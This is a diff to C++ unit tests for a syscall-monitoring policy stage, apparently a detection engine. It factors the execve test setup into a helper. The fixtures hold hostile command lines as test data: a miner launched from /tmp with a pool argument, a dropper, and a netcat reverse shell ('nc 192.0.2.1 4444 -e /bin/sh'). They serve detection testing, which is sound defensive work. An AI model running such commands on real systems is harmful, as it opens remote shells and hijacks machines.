@@ -57,6 +57,21 @@ nlohmann::json openat_event(const std::string& path, std::uint64_t flags) {
     return syscall_event(c, nullptr, "vm1");
 }
 
+// An execve of `path` by `comm` (pid `tgid`), with the argv the module read at the call.
+SyscallCall execve_call(const std::string& path, std::vector<std::string> argv, std::int32_t tgid,
+                        const std::string& comm) {
+    SyscallCall c;
+    c.nr = 59;
+    c.data_arg = 0;
+    c.data = path;
+    c.tgid = tgid;
+    c.comm = comm;
+    c.argv = std::move(argv);
+    c.argv_captured = true;
+    c.argv_arg = 1;
+    return c;
+}
+
 TEST(PolicyStage, SyscallMatchIsFollowedByAnAlert) {
     Collect out;
     PolicyStage stage(out, rules());
@@ -102,15 +117,7 @@ TEST(PolicyStage, ProcessAndConnectEvents) {
 TEST(PolicyStage, AnExecveThatWentThroughIsAnExec) {
     Collect out;
     PolicyStage stage(out, rules());
-    SyscallCall c;
-    c.nr = 59;
-    c.data_arg = 0;
-    c.data = "/tmp/miner";
-    c.tgid = 12;
-    c.comm = "sh";
-    c.argv = {"miner", "--pool", "x:3333"};  // read at the call by the module
-    c.argv_captured = true;
-    c.argv_arg = 1;
+    SyscallCall c = execve_call("/tmp/miner", {"miner", "--pool", "x:3333"}, 12, "sh");
     stage.emit(syscall_event(c, nullptr, "vm1"));  // no return: it went through
     ASSERT_EQ(out.got.size(), 2u);
     EXPECT_EQ(out.got[1]["rule"]["name"], "Exec from tmp");
@@ -182,15 +189,8 @@ TEST(PolicyStage, OtherEventsAreNotJudged) {
 TEST(PolicyStage, AnExecAlertNamesTheNewProgramAndIsNotRepeatedByTheListing) {
     Collect out;
     PolicyStage stage(out, rules());
-    SyscallCall c;
-    c.nr = 59;
-    c.data_arg = 0;
-    c.data = "/tmp/dropper";
-    c.tgid = 40;
-    c.comm = "sh";  // the caller, before the exec
-    c.argv = {"/tmp/dropper", "-x"};
-    c.argv_captured = true;
-    c.argv_arg = 1;
+    // "sh" is the caller, before the exec.
+    const SyscallCall c = execve_call("/tmp/dropper", {"/tmp/dropper", "-x"}, 40, "sh");
     stage.emit(syscall_event(c, nullptr, "vm1"));
     ASSERT_EQ(out.got.size(), 2u);
     EXPECT_EQ(out.got[1]["process"]["name"], "dropper");
@@ -210,15 +210,9 @@ TEST(PolicyStage, AnExecAlertNamesTheNewProgramAndIsNotRepeatedByTheListing) {
 }
 
 TEST(PolicyStage, AMultiCallBinaryRerunningItselfIsNamedByArgv0) {
-    SyscallCall c;
-    c.nr = 59;
-    c.data_arg = 0;
-    c.data = "/proc/self/exe";  // busybox runs its applets so
-    c.tgid = 50;
-    c.comm = "sh";
-    c.argv = {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"};
-    c.argv_captured = true;
-    c.argv_arg = 1;
+    // busybox runs its applets so.
+    const SyscallCall c =
+        execve_call("/proc/self/exe", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}, 50, "sh");
     GuestProcess caller;
     caller.pid = 50;
     caller.comm = "sh";
